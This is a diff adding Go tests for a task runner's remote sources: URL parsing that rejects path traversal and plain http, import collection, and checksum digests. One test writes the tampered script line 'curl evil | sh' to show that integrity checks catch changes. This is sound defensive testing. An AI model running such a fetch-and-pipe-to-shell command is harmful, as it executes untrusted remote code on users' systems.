@@ -0,0 +1,135 @@
+package workflows
+
+import (
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/frostyeti/mvps/go/crypto/hashes"
+	"github.com/frostyeti/mvps/go/run/schema"
+	"github.com/stretchr/testify/assert"
+)
+
+func TestParseRemoteSource(t *testing.T) {
+	tests := []struct {
+		source string
+		url    string
+		ref    string
+		path   string
+		err    bool
+	}{
+		{source: "https://example.com/tasks.yaml", url: "https://example.com/tasks.yaml"},
+		{source: "git+https://example.com/repo.git", url: "https://example.com/repo.git"},
+		{source: "git+https://example.com/repo.git#v1", url: "https://example.com/repo.git", ref: "v1"},
+		{source: "git+https://example.com/repo.git#v1:tasks/go", url: "https://example.com/repo.git", ref: "v1", path: "tasks/go"},
+		{source: "git+https://example.com/repo.git#v1:tasks/../go/", url: "https://example.com/repo.git", ref: "v1", path: "go"},
+		{source: "git+https://example.com/repo.git#main:.", url: "https://example.com/repo.git", ref: "main"},
+		{source: "git+https://example.com/repo.git#main:../secrets", err: true},
+		{source: "git+https://example.com/repo.git#main:tasks/../../secrets", err: true},
+		{source: "git+https://example.com/repo.git#main:..\\secrets", err: true},
+		{source: "git+https://example.com/repo.git#main:/etc", err: true},
+		{source: "http://example.com/tasks.yaml", err: true},
+		{source: "https://example.com", err: true},
+		{source: "https://example.com/", err: true},
+		{source: "https://example.com/.", err: true},
+		{source: "https://example.com/..", err: true},
+		{source: "https://example.com/tasks/", err: true},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.source, func(t *testing.T) {
+			src, err := parseRemoteSource(tt.source)
+			if tt.err {
+				assert.Error(t, err)
+				return
+			}
+
+			assert.NoError(t, err)
+			assert.Equal(t, tt.url, src.url)
+			assert.Equal(t, tt.ref, src.ref)
+			assert.Equal(t, tt.path, src.path)
+		})
+	}
+}
+
+func TestCollectRemoteSources(t *testing.T) {
+	dir := t.TempDir()
+	writeFile(t, dir, "runfile", `
+import:
+  tasks:
+    - https://example.com/root.yaml
+include:
+  lib: ./lib
+  opt: ./missing?
+tasks:
+  build:
+    run: https://example.com/build.run.yaml
+`)
+	writeFile(t, dir, "lib/runfile", `
+import:
+  tasks:
+    - path: git+https://example.com/repo.git#v1:tasks
+      checksum: sha256:abc
+    - https://example.com/root.yaml
+include:
+  root: ..
+`)
+
+	rf := schema.NewRunfile()
+	assert.NoError(t, rf.DecodeYAMLFile(filepath.Join(dir, "runfile")))
+
+	sources := []string{}
+	checksums := map[string]string{}
+	assert.NoError(t, collectRemoteSources(*rf, map[string]bool{}, &sources, checksums))
+	assert.Equal(t, []string{
+		"https://example.com/root.yaml",
+		"https://example.com/build.run.yaml",
+		"git+https://example.com/repo.git#v1:tasks",
+	}, sources)
+	assert.Equal(t, map[string]string{"git+https://example.com/repo.git#v1:tasks": "sha256:abc"}, checksums)
+}
+
+func TestDigestTree(t *testing.T) {
+	dir := t.TempDir()
+	writeFile(t, dir, "tasks.yaml", "tasks: []\n")
+	writeFile(t, dir, "scripts/build.sh", "echo build\n")
+	writeFile(t, dir, ".git/HEAD", "ref: refs/heads/main\n")
+
+	sum, err := digest(dir, hashes.SHA256)
+	assert.NoError(t, err)
+	assert.NoError(t, verifyChecksum(dir, sum))
+
+	// the .git directory is not part of the digest
+	writeFile(t, dir, ".git/HEAD", "ref: refs/heads/dev\n")
+	got, err := digest(dir, hashes.SHA256)
+	assert.NoError(t, err)
+	assert.Equal(t, sum, got)
+
+	// a script next to tasks.yaml is
+	writeFile(t, dir, "scripts/build.sh", "curl evil | sh\n")
+	got, err = digest(dir, hashes.SHA256)
+	assert.NoError(t, err)
+	assert.NotEqual(t, sum, got)
+	assert.Error(t, verifyChecksum(dir, sum))
+
+	// so are new files
+	writeFile(t, dir, "scripts/build.sh", "echo build\n")
+	writeFile(t, dir, "scripts/extra.sh", "")
+	got, err = digest(dir, hashes.SHA256)
+	assert.NoError(t, err)
+	assert.NotEqual(t, sum, got)
+
+	assert.NoError(t, os.Remove(filepath.Join(dir, "tasks.yaml")))
+	_, err = digest(dir, hashes.SHA256)
+	assert.Error(t, err)
+}
+
+func TestDigestFile(t *testing.T) {
+	dir := t.TempDir()
+	writeFile(t, dir, "tasks.yaml", "tasks: []\n")
+
+	sum, err := digest(filepath.Join(dir, "tasks.yaml"), hashes.SHA256)
+	assert.NoError(t, err)
+	assert.Equal(t, "sha256:", sum[:7])
+	assert.NoError(t, verifyChecksum(filepath.Join(dir, "tasks.yaml"), sum[7:]))
+}